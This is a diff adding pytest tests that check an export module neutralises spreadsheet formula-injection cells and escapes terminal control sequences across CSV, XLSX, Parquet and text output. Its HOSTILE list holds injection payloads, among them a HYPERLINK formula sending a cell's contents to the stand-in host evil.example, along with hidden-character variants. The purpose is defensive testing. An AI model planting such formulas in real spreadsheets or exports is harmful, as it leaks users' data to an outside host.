@@ -93,3 +93,103 @@ def test_write_tables_names_siblings_after_the_main_file(tmp_path):
     assert (tmp_path / "chargeback-2026-03.csv").read_text() == "t\nx\n"
     with pytest.raises(ValueError, match="cannot tell the export format"):
         exports.write_tables(tables, tmp_path / "x.txt")
+
+
+# ---------------------------------------------------------------- hostile cells, through every way out
+
+#: text a spreadsheet would evaluate, or that hides a formula behind characters it strips or folds
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "@SUM(1,2)", "-2+3", "\x00=1+1", "\x0b+1",
+           "\x1f\x00@x", "＝1+1", "＋1", "\u200b=1", "\u00a0-1", "\tTAB", "\rCR", "\x00\t1"]
+#: text that is safe as it is (a formula character later on is only text)
+SAFE = ["plain", "a=b", "1-2", "\x1b[2Jclear", "e-mail@x", ""]
+
+
+def hostile() -> pl.DataFrame:
+    n = len(HOSTILE) + len(SAFE)
+    return pl.DataFrame({"name": HOSTILE + SAFE,
+                         "amount": [D("-0.01")] * n, "x": [-0.01] * n, "jobs": list(range(-1, n - 1))},
+                        schema_overrides={"amount": pl.Decimal(18, 2)})
+
+
+def test_neutralise_looks_past_controls_and_folds_full_width_forms():
+    out = exports.neutralise(hostile())
+    assert out["name"].to_list() == ["'" + h for h in HOSTILE] + SAFE          # the original text stays after '
+    assert out["amount"].dtype == pl.Decimal(18, 2) and out["x"].to_list()[0] == -0.01   # numbers are no text
+    cats = exports.neutralise(pl.DataFrame({"c": ["=1", "ok"]}, schema={"c": pl.Categorical}))
+    assert cats["c"].to_list() == ["'=1", "ok"]
+
+
+def test_hostile_cells_in_csv_are_text_and_numbers_stay_numbers():
+    import csv
+    rows = list(csv.reader(io.StringIO(exports.csv_bytes(hostile()).decode("utf-8"), newline="")))
+    assert rows[0] == ["name", "amount", "x", "jobs"]
+    names = [r[0] for r in rows[1:]]
+    assert names == ["'" + h for h in HOSTILE] + SAFE
+    assert {r[1] for r in rows[1:]} == {"-0.01"} and {r[2] for r in rows[1:]} == {"-0.01"}   # not '-0.01
+    assert rows[1][3] == "-1"
+
+
+def _sheet_text(v: str) -> str:
+    """What an XLSX cell holds of ``v``: XML cannot carry C0 controls other than tab, LF and CR."""
+    return "".join(c for c in v if c in "\t\n\r" or ord(c) >= 32)
+
+
+def test_hostile_cells_in_xlsx_stay_neutralised_after_controls_are_dropped(tmp_path):
+    p = tmp_path / "h.xlsx"
+    p.write_bytes(exports.xlsx_bytes({"h": hostile()}, units={"amount": "USD"}))
+    ws = openpyxl.load_workbook(p)["h"]
+    cells = list(ws.iter_rows(min_row=2))
+    names = [r[0].value or "" for r in cells]
+    assert names == ["'" + _sheet_text(h) for h in HOSTILE] + [_sheet_text(s) for s in SAFE]
+    assert "'=1+1" in names and "=1+1" not in names             # the NUL went, the ' stayed in front
+    assert not any(_sheet_text(n).lstrip("\t\r\n \u200b\u00a0").startswith(("=", "+", "-", "@", "＝", "＋"))
+                   for n in names)
+    amount, x, jobs = cells[0][1], cells[0][2], cells[0][3]
+    assert amount.value == -0.01 and amount.data_type == "n" and amount.number_format == '#,##0.00 "USD"'
+    assert x.value == -0.01 and x.data_type == "n"
+    assert jobs.value == -1 and isinstance(jobs.value, int)
+
+
+def test_parquet_keeps_hostile_text_exact_and_numbers_typed():
+    back = pl.read_parquet(io.BytesIO(exports.parquet_bytes(hostile())))
+    assert back["name"].to_list() == HOSTILE + SAFE                # typed data: nothing evaluates it
+    assert back.schema["amount"] == pl.Decimal(18, 2) and back["amount"][0] == D("-0.01")
+
+
+def test_the_text_table_escapes_terminal_controls():
+    from dashboards import terminal
+    text = terminal.format_table(hostile())
+    assert "\x1b" not in text and "\x00" not in text and "\x0b" not in text and "\r" not in text
+    assert "\\x1b[2Jclear" in text and "\\x00=1+1" in text and "\\t" in text
+    assert len(text.splitlines()) == 2 + hostile().height            # no cell starts a line of its own
+    assert "＝1+1" in text and "-0.01" in text
+
+
+def test_terminal_escape_keeps_newlines_only_in_multiline_text():
+    from dashboards.terminal import escape
+    s = "acct\x1b]0;title\x07\n\x9bnext\u202e"
+    assert escape(s) == "acct\\x1b]0;title\\x07\\n\\x9bnext\\u202e"
+    assert escape(s, multiline=True) == "acct\\x1b]0;title\\x07\n\\x9bnext\\u202e"
+    assert escape("naïve – ok") == "naïve – ok"
+
+
+def test_counts_print_as_integers_and_quantities_keep_decimals():
+    from dashboards.terminal import format_table
+    df = pl.DataFrame({"ngpus": [32.0, 4.0], "capacity_gpus": [32.0, None], "gpu_h": [480.0, 2.0],
+                       "mean_jobs": [2.5, 1.0], "total": [D("19392.00"), D("-0.01")]},
+                      schema_overrides={"total": pl.Decimal(18, 2)})
+    lines = format_table(df).splitlines()
+    assert lines[2].split() == ["32", "32", "480.00", "2.50", "19,392.00"]
+    assert lines[3].split() == ["4", "2.00", "1.00", "-0.01"]
+
+
+def test_units_give_numbers_a_currency_format_and_keep_decimal_scale(tmp_path):
+    df = pl.DataFrame({"total": [D("1234.5")], "rate": [D("2.500000")], "gpus": [8], "x": [0.5]},
+                      schema_overrides={"total": pl.Decimal(18, 2), "rate": pl.Decimal(18, 6)})
+    p = tmp_path / "u.xlsx"
+    p.write_bytes(exports.xlsx_bytes({"u": df}, units={"total": "EUR", "rate": "EUR/GPU-h", "gpus": "GPUs"}))
+    ws = openpyxl.load_workbook(p)["u"]
+    assert [c.number_format for c in ws[2]] == ['#,##0.00 "EUR"', '#,##0.000000 "EUR/GPU-h"', '#,##0 "GPUs"',
+                                                "General"]
+    assert [c.value for c in ws[2]] == [1234.5, 2.5, 8, 0.5]
+    assert exports.number_format(2, 'E"U\\R') == '#,##0.00 "EUR"'    # a quote cannot end the literal early
